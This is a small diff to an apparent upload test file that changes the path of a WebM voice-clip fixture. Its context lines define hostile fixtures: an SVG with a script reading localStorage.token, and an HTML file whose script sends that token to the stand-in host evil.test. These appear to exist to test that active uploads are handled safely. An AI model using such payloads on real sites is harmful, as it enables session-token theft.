@@ -17,7 +17,7 @@ afterAll(async () => {
 });
 
 /** A real WebM voice clip (Chromium's MediaRecorder, about 2 s): registering reads its length from the file. */
-const clip = new Uint8Array(readFileSync(new URL("../convex/testdata/mediarecorder-opus.webm", import.meta.url)));
+const clip = new Uint8Array(readFileSync(new URL("../convex/tests/testdata/mediarecorder-opus.webm", import.meta.url)));
 const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...Array.from({ length: 56 }, (_, i) => i)]);
 const svg = new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage.token)</script></svg>');
 const html = new TextEncoder().encode("<!doctype html><script>fetch('//evil.test/?'+localStorage.token)</script>");
